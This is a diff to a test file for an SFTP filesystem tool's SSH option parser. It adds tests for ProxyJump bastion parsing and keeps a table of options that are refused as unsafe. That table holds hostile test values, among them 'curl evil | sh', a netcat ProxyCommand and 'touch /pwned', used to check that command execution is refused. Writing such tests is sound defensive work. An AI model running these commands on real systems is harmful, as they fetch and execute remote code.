@@ -164,7 +164,6 @@ describe('options that would run a command are refused as unsafe', () => {
     ['ssh-command', 'x'],
     ['ProxyCommand', 'nc %h %p'],
     ['proxycommand', 'sh -c "curl evil | sh"'],
-    ['ProxyJump', 'bastion'],
     ['LocalCommand', 'touch /pwned'],
     ['PermitLocalCommand', 'yes'],
     ['RemoteCommand', 'id'],
@@ -176,6 +175,29 @@ describe('options that would run a command are refused as unsafe', () => {
   ])('%s', (key, value) => {
     const m = err({ sshcmd: 'u@h:/p', [key]: value });
     expect(m).toMatch(new RegExp(`option ${key} is refused as unsafe: .+tsfs speaks SFTP itself and never runs commands`));
+  });
+});
+
+describe('ProxyJump: a bastion without running a program', () => {
+  it('ssh_command and ProxyCommand point to it', () => {
+    expect(err({ sshcmd: 'u@h:/p', ssh_command: 'ssh -J bastion' })).toMatch(/use -o ProxyJump=\[user@\]bastion\[:port\] instead of ssh -J/);
+    expect(err({ sshcmd: 'u@h:/p', ProxyCommand: 'ssh -W %h:%p bastion' })).toMatch(/use -o ProxyJump=\[user@\]bastion\[:port\]/);
+  });
+  it.each([
+    ['bastion', { host: 'bastion', port: 22, username: 'u' }],
+    ['jump@bastion.example:2222', { host: 'bastion.example', port: 2222, username: 'jump' }],
+    ['[::1]:22', { host: '::1', port: 22, username: 'u' }],
+  ])('%s', (value, want) => {
+    expect(parseOptions({ sshcmd: 'u@h:/p', ProxyJump: value }).proxyJump).toEqual(want);
+  });
+  it.each([
+    [{ ProxyJump: 'a,b' }, /ProxyJump: must look like \[user@\]host\[:port\].*one hop/],
+    [{ ProxyJump: 'b:99999' }, /ProxyJump: must look like/],
+    [{ ProxyJumpIdentityFile: '/root/.ssh/k' }, /need -o ProxyJump=/],
+    [{ ProxyJump: 'b', ProxyJumpHostKey: 'nope' }, /ProxyJumpHostKey: must be a SHA256 fingerprint/],
+    [{ ProxyJump: 'b', StrictHostKeyChecking: 'yes', host_key: 'SHA256:' + 'a'.repeat(43) }, /needs the bastion's key pinned too: add -o ProxyJumpHostKey=/],
+  ])('%j is refused with what to write', (opts, want) => {
+    expect(err({ sshcmd: 'u@h:/p', ...opts })).toMatch(want);
   });
 });
 
